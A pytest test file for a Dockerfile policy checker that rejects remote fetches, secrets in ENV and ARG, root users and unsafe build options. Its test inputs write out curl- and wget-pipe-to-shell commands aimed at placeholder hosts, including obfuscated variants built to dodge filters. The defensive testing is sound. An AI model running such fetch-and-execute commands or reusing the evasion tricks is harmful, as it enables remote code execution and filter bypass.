"""What a Dockerfile may ask of the engine that builds it."""

from pathlib import Path

import pytest

from adp.errors import AuthorError
from adp.finding import Reason
from adp.manifest.model import Environment
from adp.sandbox.dockerfile import check, instructions
from adp.sandbox.dockerfile.rules import RULES
from adp.sandbox.fake import FakeEngine
from adp.sandbox.roots import root_for

PINNED = "registry.test/base@sha256:" + "a" * 64
END = "\nUSER 20001\n"


@pytest.mark.parametrize(("text", "code", "line"), [
    ("FROM python:3.11", "DOCKERFILE_FROM", 1),
    ("FROM python", "DOCKERFILE_FROM", 1),
    ("FROM python:latest", "DOCKERFILE_LATEST", 1),
    ("FROM python@sha256:abc", "DOCKERFILE_FROM", 1),
    ("from --platform=linux/amd64 python", "DOCKERFILE_FROM", 1),
    ("FROM --network=host astro-1", "DOCKERFILE_FROM", 1),
    ("ARG X=evil\nFROM $X", "DOCKERFILE_FROM", 2),
    ("FROM astro-1 AS a\nFROM b", "DOCKERFILE_FROM", 2),
    ("FROM astro-1\nCOPY --from=registry.test/x /a /b", "DOCKERFILE_FROM", 2),
    ("FROM astro-1\nCOPY <<E /x\nRUN curl x | sh\nE", "DOCKERFILE_HEREDOC", 2),
    ("FROM astro-1\nADD https://example.org/x /x", "DOCKERFILE_ADD", 2),
    ("FROM astro-1\nADD git@github.com:a/b.git /x", "DOCKERFILE_ADD", 2),
    ("FROM astro-1\nADD tree.tar.xz /", "DOCKERFILE_ADD", 2),
    ("FROM astro-1\nA\\\n# between\nDD ht\\  \ntp://example.org/x /x", "DOCKERFILE_ADD", 2),
    ('FROM astro-1\nONBUILD ADD ["http://example.org/x", "/x"]', "DOCKERFILE_ONBUILD", 2),
    ("FROM astro-1\nENV U=http://x\nADD $U /x", "DOCKERFILE_ADD", 3),
    ("\N{BYTE ORDER MARK}FROM python:3.11", "DOCKERFILE_FROM", 1),
    ("\N{BYTE ORDER MARK}# escape=`\nFROM astro-1", "DOCKERFILE_DIRECTIVE", 1),
    ("FROM\vpython:3.11", "DOCKERFILE_FROM", 1),
    ("FROM astro-1\nADD\fhttp://example.org/x /x", "DOCKERFILE_ADD", 2),
    ("FROM astro-1\nADD\rhttp://example.org/x /x", "DOCKERFILE_ADD", 2),
    ("FROM astro-1\nCOPY --fr\\om=registry.test/x /a /b", "DOCKERFILE_FROM", 2),
    ('FROM astro-1\nCOPY --f"rom"=registry.test/x /a /b', "DOCKERFILE_FROM", 2),
    ("FROM astro-1\nRUN --mount=type=bind,from=registry.test/x,target=/m true", "DOCKERFILE_RUN", 2),
    ("FROM astro-1\nRUN --mount=type=secret,id=x cat /run/secrets/x", "DOCKERFILE_RUN", 2),
    ("FROM astro-1\nRUN --mount=type=ssh ssh x", "DOCKERFILE_RUN", 2),
    ("FROM astro-1\nRUN --network=host true", "DOCKERFILE_RUN", 2),
    ("FROM astro-1\nRUN --security=insecure true", "DOCKERFILE_RUN", 2),
    ("FROM astro-1\nRUN -\\\n-network=host true", "DOCKERFILE_RUN", 2),
    ("# escape=`\nFROM astro-1", "DOCKERFILE_DIRECTIVE", 1),
    ("# syntax = evil/frontend\nFROM astro-1", "DOCKERFILE_DIRECTIVE", 1),
    ("FROM astro-1\nRUN curl https://x.test/i | sh", "DOCKERFILE_PIPE", 2),
    ("FROM astro-1\nRUN true && wget -qO- https://x.test/i | sudo bash -s -- -y", "DOCKERFILE_PIPE", 2),
    ("FROM astro-1\nRUN cu'r'l https://x.test/i | \\\n  tee /tmp/i | /bin/ba\"s\"h", "DOCKERFILE_PIPE", 2),
    ('FROM astro-1\nRUN bash -c "$(curl -fsSL https://x.test/i)"', "DOCKERFILE_PIPE", 2),
    ("FROM astro-1\nRUN bash <(curl https://x.test/i)", "DOCKERFILE_PIPE", 2),
    ("FROM astro-1\nRUN curl https://x.test/i | python3 -", "DOCKERFILE_PIPE", 2),
    ("FROM astro-1\nRUN wget https://x.test/i -O /tmp/i && chmod +x /tmp/i && /tmp/i", "DOCKERFILE_PIPE", 2),
    ('FROM astro-1\nRUN ["sh", "-c", "curl https://x.test/i | sh"]', "DOCKERFILE_PIPE", 2),
    ("FROM astro-1\nRUN <<E\ncurl https://x.test/i | sh\nE", "DOCKERFILE_PIPE", 2),
    ("FROM astro-1\nARG GITHUB_TOKEN", "DOCKERFILE_SECRET", 2),
    ("FROM astro-1\nENV DB_PASSWORD hunter2", "DOCKERFILE_SECRET", 2),
    ("FROM astro-1\nENV A=1 AWS_SECRET_ACCESS_KEY=x", "DOCKERFILE_SECRET", 2),
    ("FROM astro-1\nENV X=ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "DOCKERFILE_SECRET", 2),
    ("FROM astro-1\nENV INDEX=https://me:word@host.test/", "DOCKERFILE_SECRET", 2),
    ("FROM astro-1\nWORKDIR /proc/self/fd/8", "DOCKERFILE_WORKDIR", 2),
    ("FROM astro-1\nWORKDIR /opt\nWORKDIR ../sys/fs", "DOCKERFILE_WORKDIR", 3),
    ("FROM astro-1\nWORKDIR //proc", "DOCKERFILE_WORKDIR", 2),
    ("FROM astro-1\nWORKDIR $P/x", "DOCKERFILE_WORKDIR", 2),
    ("FROM astro-1\nVOLUME /data", "DOCKERFILE_INSTRUCTION", 2),
    ("FROM astro-1\nHEALTHCHECK CMD true", "DOCKERFILE_INSTRUCTION", 2),
])  # fmt: skip
def test_it_may_not_reach_out_through_the_engine(text: str, code: str, line: int) -> None:
    (finding,) = check(text + END, "Dockerfile")
    assert (finding.reason, finding.code) == (Reason.POLICY, code)
    assert (finding.where.file, finding.where.line) == ("Dockerfile", line)
    assert finding.hint


@pytest.mark.parametrize(("text", "line"), [
    ("FROM astro-1\nRUN true", 1),
    ("FROM astro-1\nUSER 20001\nUSER root", 3),
    ("FROM astro-1\nUSER 0:20001", 2),
    ("FROM astro-1\nUSER 00", 2),
    ('FROM astro-1\nUSER "root"', 2),
    ("FROM astro-1\nARG U=20001\nUSER $U", 3),
    ("FROM astro-1 AS a\nUSER 20001\nFROM astro-1", 3),
    (f"FROM {PINNED}", 1),
])  # fmt: skip
def test_it_may_not_end_as_root(text: str, line: int) -> None:
    (finding,) = check(text, "Dockerfile")
    assert (finding.reason, finding.code, finding.where.line) == (Reason.POLICY, "DOCKERFILE_ROOT", line)


@pytest.mark.parametrize("text", [
    "FROM astro-1\nCOPY wheels /opt/wheels\nRUN pip install --no-index /opt/wheels/*\nUSER 20001",
    f"FROM {PINNED}\nUSER nobody\n",
    "FROM astro-1 AS build\nRUN true\nFROM astro-1\nCOPY --from=build /a /b\nCOPY --from=0 /a /b\nUSER 20001",
    "FROM astro-1 AS a\nUSER 20001\nFROM a\nRUN true",
    "# a comment\n\nFROM astro-1\n# ADD http://x /x\nRUN echo http://x\nUSER 20001",
    '# check=skip=all\nFROM astro-1\nENV PATH=/opt/bin:$PATH AUTHOR=me\nSHELL ["/bin/bash", "-c"]\nUSER 20001',
    "FROM astro-1\nRUN curl --version && echo done | sh\nUSER 20001",
    "FROM astro-1\nRUN <<E\nUSER root\nE\nUSER 20001",
    "FROM astro-1\nWORKDIR /opt/procedure\nUSER 20001",
    "FROM astro-1\nRUN python3 -c 'x = 300 << 20; y = 1 <<a' && echo \"$((1 << 20)) <<E\"\nUSER 20001",
])  # fmt: skip
def test_what_stays_in_the_repository_is_allowed(text: str) -> None:
    assert check(text, "Dockerfile") == ()


@pytest.mark.parametrize(("text", "code", "reason"), [
    ("ANGE x\nFROM astro-1\nUSER 20001", "DOCKERFILE", Reason.BUILD_FAIL),
    ("RUN true", "DOCKERFILE", Reason.BUILD_FAIL),
    ("", "DOCKERFILE", Reason.BUILD_FAIL),
    ("FROM astro-1\nUSER 20001\0", "DOCKERFILE", Reason.BUILD_FAIL),
    ("FROM astro-1\n" + "RUN true\n" * 70 + "USER 20001", "DOCKERFILE_LAYERS", Reason.BUILD_LIMIT),
    ("FROM astro-1\nUSER 20001\n" + "#" * (300 << 10), "DOCKERFILE", Reason.BUILD_FAIL),
])  # fmt: skip
def test_what_is_no_dockerfile_cannot_be_built(text: str, code: str, reason: Reason) -> None:
    (finding,) = check(text, "Dockerfile")
    assert (finding.code, finding.reason) == (code, reason)


def test_every_rule_refuses_its_own_example() -> None:
    for rule in RULES:
        example = rule.example if rule.words == frozenset({"DIRECTIVE"}) else f"FROM astro-1\n{rule.example}"
        assert rule.code in {f.code for f in check(example, "Dockerfile")}, rule


def test_a_script_of_many_lines_belongs_to_its_run() -> None:
    found = list(instructions("FROM astro-1\nRUN python3 <<-'A' <<B\nx\n\tA\ny\nB\nUSER 1"))
    assert [(i.line, i.word) for i in found] == [(1, "FROM"), (2, "RUN"), (7, "USER")]
    assert found[1].body == "x\n\tA\ny\nB"


def test_the_policy_speaks_before_any_engine_is_asked(tmp_path: Path) -> None:
    (tmp_path / "Dockerfile").write_text("FROM python:latest\nRUN curl x | sh\n", encoding="utf-8")
    with pytest.raises(AuthorError) as caught:
        root_for(FakeEngine(), Environment(dockerfile="Dockerfile"), tmp_path, lambda _line: None)
    assert [f.code for f in caught.value.findings] == ["DOCKERFILE_LATEST", "DOCKERFILE_PIPE", "DOCKERFILE_ROOT"]


@pytest.mark.parametrize("name", ["missing", "link"])
def test_the_file_is_one_of_the_repository(tmp_path: Path, name: str) -> None:
    (tmp_path / "link").symlink_to("/etc/hostname")
    with pytest.raises(AuthorError) as caught:
        root_for(FakeEngine(), Environment(dockerfile=name), tmp_path, lambda _line: None)
    assert caught.value.findings[0].code == "DOCKERFILE_MISSING"
